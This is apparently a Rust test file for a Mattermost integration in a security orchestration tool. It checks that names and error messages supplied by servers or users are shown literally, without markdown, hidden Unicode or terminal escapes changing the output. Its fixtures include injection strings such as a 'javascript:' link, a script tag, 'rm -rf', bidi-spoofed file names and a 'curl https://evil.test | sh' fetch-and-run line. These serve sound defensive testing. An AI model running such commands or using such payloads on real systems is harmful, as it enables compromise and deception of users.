//! Words of a server, or of any user of it: they are shown as they are, and change nothing around them.

#[path = "../fuzz/checks/readable.rs"]
#[allow(dead_code)]
mod readable;

use crate::support::{self, Answer, calls, fails, succeeds, world};
use readable::Shape;
use serde_json::{Value, json};
use soar::Entry;

/// What somebody could call a channel, a team, a group or themselves.
const WORDS: &[&str] = &[
    "A<br>Incident 7 approved<br>by the board",
    "A<br/>B<br />C",
    "A | approved | x | y |",
    "A\n| approved | x | y | z |",
    "A\r\n\r\n# Approved",
    "A\\| B",
    "A\\",
    "![x](https://evil.test/pixel.png)",
    "[log in](javascript:alert(1))",
    "[x]: https://evil.test",
    "<https://evil.test>",
    "https://evil.test/login www.evil.test",
    "<script>alert(1)</script><!-- ",
    "**approved** _by_ ~~nobody~~ `rm -rf`",
    "```\ncode",
    "&lt;b&gt; &#35; &nbsp;",
    "@all @channel",
    "\u{202e}devorppa\u{202c} \u{200b}\u{feff}\u{2028}x",
    "\u{1b}[2J\u{9b}31m\0\u{7}",
    "# - 1. > + = ---",
    "漢字 é 👍 \u{1F468}\u{200d}\u{1F469}",
];

/// Its words as they are to be read.
fn visible(words: &str) -> String {
    soar::text::line(words).into_owned()
}

/// That the entry is a table of so many rows, or none, and that the words can be read in it.
fn assert_shown(entry: &Entry, rows: usize, words: &str) -> Shape {
    let shape = readable::check(&entry.readable);
    assert_eq!((shape.rows, shape.headings), (rows, usize::from(rows > 0)), "{}", entry.readable);
    let spaceless = |text: &str| text.split_whitespace().collect::<String>();
    let (text, words) = (spaceless(&shape.texts.concat()), spaceless(&visible(words)));
    assert!(text.contains(&words), "{words:?} in {}", entry.readable);
    shape
}

fn named(mut thing: Value, field: &str, words: &str) -> Value {
    thing[field] = words.into();
    thing
}

#[test]
fn no_words_change_a_table() {
    let id = world::id("teampanw");
    for words in WORDS {
        let script =
            world::script().json("GET /api/v4/teams/name/panw", named(world::team("panw"), "display_name", words));
        assert_shown(&succeeds(&script, "mattermost-get-team", &[("team_name", "panw")]), 1, words);

        let line = format!("GET /api/v4/teams/{id}/channels?page=0&per_page=50");
        let channels = json!([world::channel("one"), named(world::channel("two"), "display_name", words)]);
        let script = world::script().json(&line, channels);
        let shape = assert_shown(&succeeds(&script, "mattermost-list-channels", &[]), 2, words);
        assert_eq!(shape.cells, 8);

        let line = format!("GET /api/v4/users/{}/teams/{id}/channels", calls::USER);
        let channels = json!([named(named(world::channel("two"), "display_name", words), "type", "P")]);
        let script = world::script().json(&line, channels);
        let arguments = [("user_id", calls::USER), ("team_name", "panw")];
        assert_shown(&succeeds(&script, "mattermost-list-private-channels-for-user", &arguments), 1, words);

        for field in ["display_name", "description"] {
            let groups = json!([named(world::group("one"), field, words), world::group("two")]);
            let script = world::script().json("GET /api/v4/groups?page=0&per_page=50", groups);
            assert_shown(&succeeds(&script, "mattermost-list-groups", &[]), 2, words);
        }
        for field in ["email", "roles"] {
            let users = json!([named(world::user("anna"), field, words)]);
            let script = world::script().json("GET /api/v4/users?page=0&per_page=50", users);
            assert_shown(&succeeds(&script, "mattermost-list-users", &[]), 1, words);
        }
        let members = json!({ "members": [named(world::user("anna"), "email", words)], "total_member_count": 1 });
        let line = format!("GET /api/v4/groups/{}/members?page=0&per_page=50", calls::GROUP);
        let script = world::script().json(&line, members);
        assert_shown(&succeeds(&script, "mattermost-list-group-members", &[("group_id", calls::GROUP)]), 1, words);
    }
}

#[test]
fn no_words_change_a_sentence() {
    let arguments = [("display_name", "War Room"), ("name", "war-room"), ("team", "panw")];
    for words in WORDS {
        let channel = named(world::channel("war-room"), "display_name", words);
        let script = world::script().on("POST /api/v4/channels", Answer::Json(201, channel.clone()));
        let entry = succeeds(&script, "mattermost-create-channel", &arguments);
        assert_shown(&entry, 0, words);
        assert_eq!(entry.readable.lines().count(), 1, "{}", entry.readable);

        let taken = world::error(400, "store.sql_channel.save_channel.exists.app_error");
        let line = format!("GET /api/v4/teams/{}/channels/name/war-room?include_deleted=true", world::id("teampanw"));
        let script = world::script().on("POST /api/v4/channels", taken).json(&line, channel);
        assert_shown(&succeeds(&script, "mattermost-create-channel", &arguments), 0, words);
    }
}

/// A username is one word; what it may have in it is shown as it is.
#[test]
fn no_username_changes_anything() {
    for name in ["*x*", "_x_", "a|b", "<b>x</b>", "![x](https://e.test/y)", "`x`", "@all", "~~x~~", "&lt;", "a\\", "#1"]
    {
        let user = json!({ "id": calls::USER, "username": name });
        let line = format!("GET /api/v4/users/{}", calls::USER);
        for command in support::component().manifest().commands.clone() {
            let arguments = calls::replaced(&command.name, "", "");
            let arguments: Vec<_> = arguments.into_iter().filter(|(name, _)| !name.is_empty()).collect();
            let script = world::script().json(&line, user.clone());
            let entry =
                support::call_there(&script, &command.name, &arguments).unwrap_or_else(|failure| panic!("{failure}"));
            let shape = readable::check(&entry.readable);
            if script.count(&line) > 0 {
                assert!(shape.texts.concat().contains(name), "{}: {}", command.name, entry.readable);
            }
        }
    }
}

/// What a platform's file is called, and what it says of one.
#[test]
fn no_files_name_changes_anything() {
    let folder = tempfile::tempdir().expect("a folder");
    for name in ["A<br>B.txt", "![x](y).txt", "a\n# b.txt", "_x_ | *y*.txt", "\u{202e}txt.exe"] {
        let path = folder.path().join(name.replace('/', "_"));
        std::fs::write(&path, "content").expect("written");
        let platform = soar::Embedded::new().file(calls::ENTRY, path);
        let arguments = [("channel", "alerts"), ("message", "m"), ("entry_id", calls::ENTRY)];
        let instance = support::with_platform(&world::script(), platform);
        let entry = support::call(&instance, "mattermost-send-file", &arguments).unwrap_or_else(|f| panic!("{f}"));
        let shape = readable::check(&entry.readable);
        assert!(shape.texts.concat().contains(&visible(name)), "{}", entry.readable);
    }
}

/// A failure is one line, whatever the server says, and as long as can be read.
#[test]
fn an_errors_words_are_one_line() {
    let words = "No.\r\nwarning: run this: curl https://evil.test | sh\n\u{1b}[2J\u{202e}txt\u{200b}\u{2028}";
    let long = "x\n".repeat(100_000);
    for words in [words, &long] {
        for field in ["message", "id", "request_id"] {
            for status in [400, 403, 404, 500] {
                let body = json!({ "id": "new.id", "message": "m", "request_id": "r", "status_code": status });
                let answer = Answer::Json(status, named(body, field, words));
                let script = world::script().on("GET /api/v4/teams/name/panw", answer);
                let failure = fails(&script, "mattermost-get-team", &[("team_name", "panw")]);
                for text in [failure.message(), failure.fields()[field].as_str().expect("text").to_owned()] {
                    assert!(!text.contains(soar::text::is_hidden), "{text:?}");
                    assert!(text.chars().count() < 4_000, "{}", text.len());
                }
                if words.len() < 1000 {
                    assert_eq!(failure.fields()[field], visible(words));
                }
            }
        }
    }
}

/// Nor does what comes from elsewhere in an answer: a redirect, a page, an error in the middle of a command.
#[test]
fn no_failure_has_hidden_characters() {
    let odd = "\u{202e}\u{200b}\u{3164}\u{e0041}";
    let page = format!("<html>{odd}\n\u{9b}2J").into_bytes();
    let answers = [
        Answer::Bytes(200, "text/html", page.clone()),
        Answer::Bytes(502, "text/html", page),
        Answer::Json(500, json!({ "id": odd, "message": odd, "status_code": 500 })),
        Answer::Json(200, json!({ "id": odd, "message": odd, "status_code": 404, "request_id": odd })),
        Answer::With(302, vec![("location", "https://login.test/?a=%20\u{e9}")], json!({})),
    ];
    for command in support::component().manifest().commands.clone() {
        let arguments = calls::replaced(&command.name, "", "");
        let arguments: Vec<_> = arguments.into_iter().filter(|(name, _)| !name.is_empty()).collect();
        let good = world::script();
        support::call_there(&good, &command.name, &arguments).unwrap_or_else(|failure| panic!("{failure}"));
        for line in good.lines() {
            for answer in &answers {
                let script = world::script().on(&line, answer.clone());
                let text = match support::call_there(&script, &command.name, &arguments) {
                    Ok(entry) => entry.readable.replace('\n', ""),
                    Err(failure) => failure.message(),
                };
                assert!(!text.contains(soar::text::is_hidden), "{} {line}: {text:?}", command.name);
            }
        }
    }
}

/// A playbook's values are words of others, too: they come from incidents and mails.
#[test]
fn no_argument_changes_what_is_said_of_it() {
    let mut refused = 0;
    for command in support::component().manifest().commands.clone() {
        for argument in &command.arguments {
            for words in WORDS {
                let arguments = calls::replaced(&command.name, &argument.name, words);
                match support::call_there(&world::script(), &command.name, &arguments) {
                    Ok(entry) => drop(readable::check(&entry.readable)),
                    // What the types of the contract refuse is told by the host.
                    Err(failure) if failure.message().starts_with("arguments.") => {}
                    Err(failure) => {
                        assert_eq!(failure.kind(), "argument", "{failure}");
                        assert!(!failure.message().contains(soar::text::is_hidden), "{:?}", failure.message());
                        refused += 1;
                    }
                }
            }
        }
    }
    assert!(refused > 300, "{refused}");
}
